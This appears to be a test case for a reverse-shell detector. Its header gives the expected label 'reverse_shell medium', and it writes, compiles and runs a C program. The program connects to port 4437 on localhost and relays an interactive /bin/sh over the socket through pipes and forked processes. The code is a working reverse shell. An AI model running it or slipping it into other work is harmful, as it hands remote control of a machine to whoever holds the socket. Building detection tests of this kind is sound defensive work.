# about: two pipes and a relay that was forked off
# expect: reverse_shell medium
# needs: python3 gcc
peer 4437
cat >a.c <<'END'
#define _GNU_SOURCE
#include <sys/socket.h>
#include <sys/un.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <unistd.h>
#include <stdlib.h>
#include <string.h>
#include <stdio.h>
#include <sched.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <fcntl.h>
static struct sockaddr_in at(int port){struct sockaddr_in a={AF_INET,htons(port)};a.sin_addr.s_addr=htonl(0x7f000001);return a;}
static int call(int port){int s=socket(AF_INET,SOCK_STREAM,0);struct sockaddr_in a=at(port);connect(s,(void*)&a,sizeof a);return s;}
int main(){int a[2],b[2];pipe(a);pipe(b);int s=call(4437);if(!fork()){dup2(a[0],0);dup2(b[1],1);dup2(b[1],2);close(a[1]);close(b[0]);execl("/bin/sh","sh","-i",NULL);}close(a[0]);close(b[1]);char t[4096];int n;if(!fork()){while((n=read(b[0],t,sizeof t))>0)write(s,t,n);_exit(0);}while((n=read(s,t,sizeof t))>0)write(a[1],t,n);}
END
gcc -w -o a a.c -lpthread
./a || true
done_typing
